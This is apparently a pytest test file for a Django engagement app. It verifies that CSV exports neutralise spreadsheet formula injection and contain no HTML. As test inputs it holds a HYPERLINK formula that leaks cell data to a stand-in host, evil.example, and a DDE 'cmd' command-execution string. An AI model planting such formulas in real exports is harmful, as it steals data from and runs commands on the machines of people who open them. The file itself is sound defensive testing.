"""Every CSV export neutralises would-be formulas and carries no HTML (engagement/exports.py)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils.html import format_html

from engagement.exports import cell, csv_response
from engagement.models import Department, Person
from feedback import services
from feedback.tables import BreakdownTable, DriverTable
from tests.factories import answers_for, make_program, open_window, pulse_form, survey_program

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert not re.search(r"<\s*/?\s*[a-z]", body), body  # no markup of the page
    return list(csv.reader(io.StringIO(body, newline="")))


def _dangerous(rows) -> list[str]:
    return [value for row in rows for value in row if value.startswith(tuple(PREFIXES))]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_cell_that_would_be_a_formula_is_text(prefix):
    assert cell(prefix + PAYLOAD) == "'" + prefix + PAYLOAD


def test_numbers_stay_numbers_and_markup_becomes_text():
    assert cell(-3) == -3
    assert cell(-2.5) == -2.5
    assert cell("-3") == "'-3"  # text is text, whatever it looks like
    assert cell(None) == ""
    assert cell(format_html('<span class="delta up">{}</span>', "+3")) == "'+3"
    assert cell(format_html("<b>{}</b>", "Tom & Jerry")) == "Tom & Jerry"


def test_the_people_and_programs_exports_neutralise_every_prefix(client, org):
    from tests.factories import make_person

    department = Department.objects.create(name="@SUM(1+1)")
    people = []
    for i, prefix in enumerate(PREFIXES):
        people.append(
            make_person(
                f"evil{i}",
                manager=org["manager"],
                department=department,
                first_name=f"{prefix}{PAYLOAD}",
                title=f"{prefix}cmd|' /C calc'!A0",
            )
        )
        make_program("EE11", owner=org["hr"], name=f"{prefix}{PAYLOAD}{i}")
    client.force_login(org["hr"])

    exported = _rows(client.get(reverse("engagement:person_list"), {"_export": "csv"}))
    assert not _dangerous(exported)
    flat = {value for row in exported for value in row}
    assert "'@SUM(1+1)" in flat
    for prefix in PREFIXES:
        assert f"'{prefix}cmd|' /C calc'!A0" in flat
    for person in people:
        name = str(person)
        assert (f"'{name}" if name.startswith(tuple(PREFIXES)) else name) in flat

    programs = _rows(client.get(reverse("engagement:program_list"), {"_export": "csv"}))
    assert not _dangerous(programs)
    names = {row[0] for row in programs}
    for i, prefix in enumerate(PREFIXES):
        assert f"'{prefix}{PAYLOAD}{i}" in names


def test_the_results_exports_neutralise_names_and_hold_no_html(client, org):
    from tests.factories import make_person

    team = [org["employee"], org["colleague"]]
    team += [make_person(f"member{i}", manager=org["manager"]) for i in range(4)]
    Person.objects.filter(pk=org["manager"].pk).update(first_name="=" + PAYLOAD)
    Department.objects.filter(pk=org["departments"]["operations"].pk).update(name="-2+3+cmd")
    form = pulse_form(survey_program(org), org["hr"])
    window = open_window(form.program)
    for person in team:
        services.response_submit(window=window, person=person, answers=answers_for(form))
    client.force_login(org["leader"])
    url = reverse("feedback:results", args=[org["leader"].pk])
    for table in ("drivers", "teams", "departments", "health"):
        response = client.get(url, {"table": table, "_export": "csv"})
        if response.status_code == 404:
            continue  # that table is not shown for this organisation
        rows = _rows(response)
        assert not _dangerous(rows), (table, rows)
    teams = _rows(client.get(url, {"table": "teams", "_export": "csv"}))
    assert any(row[0].startswith("'=HYPERLINK") for row in teams[1:])


def test_the_drivers_export_gives_the_change_as_a_plain_number():
    rows = [
        {"label": "Recognition", "favourable": 40.0, "neutral": 20.0, "unfavourable": 40.0,
         "mean": 3.0, "change": -3.0},
        {"label": "Growth", "favourable": 60.0, "neutral": 20.0, "unfavourable": 20.0,
         "mean": 3.6, "change": 4.0},
        {"label": "Pay", "favourable": None, "neutral": None, "unfavourable": None,
         "mean": None, "change": None},
    ]  # fmt: skip
    exported = _rows(csv_response(DriverTable(rows), "drivers.csv"))
    change = {row[0]: row[-1] for row in exported[1:]}
    assert change == {"Recognition": "-3", "Growth": "4", "Pay": ""}
    teams = _rows(
        csv_response(
            BreakdownTable(
                [{"team": "A", "respondents": "7", "enps": -12.0}], link=lambda row: "/x/"
            ),
            "teams.csv",
        )
    )
    assert teams[1][:3] == ["A", "7", "-12"]


WRITERS = re.compile(r"\bTableExport\b|\bExportMixin\b|csv\.writer|csv\.DictWriter|text/csv")


def test_no_module_but_exports_writes_csv():
    """One choke point: a new export elsewhere would bypass the neutralising."""
    root = Path(settings.BASE_DIR)
    offenders = [
        path.relative_to(root).as_posix()
        for app in ("engagement", "scheduling", "meetings", "feedback")
        for path in (root / app).rglob("*.py")
        if WRITERS.search(path.read_text()) and path != root / "engagement" / "exports.py"
    ]
    assert offenders == []
